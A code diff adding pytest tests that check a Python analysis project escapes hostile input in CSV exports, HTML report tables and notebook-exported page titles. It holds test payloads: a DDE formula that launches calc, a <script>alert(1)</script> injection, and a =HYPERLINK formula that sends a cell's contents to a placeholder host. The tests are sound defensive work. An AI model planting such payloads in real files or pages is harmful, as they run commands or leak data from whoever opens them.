@@ -341,3 +341,31 @@ def test_a_carriage_return_inside_a_cell_cannot_start_a_row_in_excel():
     text = csv_bytes(frame).decode("utf-8-sig")
     assert text == 'name,n\n"x\n=cmd|\' /C calc\'!A0",1\n"a\nb",2\nok,3\n'
     assert frame["name"].tolist()[0] == "x\r=cmd|' /C calc'!A0"  # the table keeps its text
+
+
+def test_report_tables_of_hostile_items_are_escaped(frames) -> None:
+    """`report.table`, as the notebooks show tables: a name that is markup stays text, and
+    one that is TeX is marked for Jupyter's renderer to leave alone."""
+    from plan_analysis.report import table
+
+    tables = hostile(frames)
+    items = tables["items"].copy()
+    items.loc[items["item_id"] == "2021-002", "name"] = "<script>alert(1)</script>"
+    html = table(items[["item_id", "name", "plans", "is_repost"]]).to_html()
+    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+    assert "=HYPERLINK(&#34;http://x/?leak=&#34;&amp;A1,&#34;a&#34;)" in html or (
+        "=HYPERLINK(&quot;http://x/?leak=&quot;&amp;A1,&quot;a&quot;)" in html
+    )
+    assert "tex2jax_ignore" in html
+    departments = table(tables["workload_departments"]).to_html()
+    assert ">$x^2$課<" in departments  # as written, in a table MathJax would not touch
+
+
+def test_a_hostile_heading_is_an_escaped_title(tmp_path) -> None:
+    nb = nbformat.v4.new_notebook()
+    nb.cells = [nbformat.v4.new_markdown_cell("# 02 <script>alert(1)</script>\n\n本文")]
+    nbformat.write(nb, tmp_path / "02_x.ipynb")
+    html = export_html(tmp_path / "02_x.ipynb", tmp_path / "02_x.html").read_text("utf-8")
+    assert "<title>02 &lt;script&gt;alert(1)&lt;/script&gt;</title>" in html
+    assert '<html lang="ja">' in html
+    assert "cdnjs" not in html and "require.js" not in html  # nothing fetched from a CDN
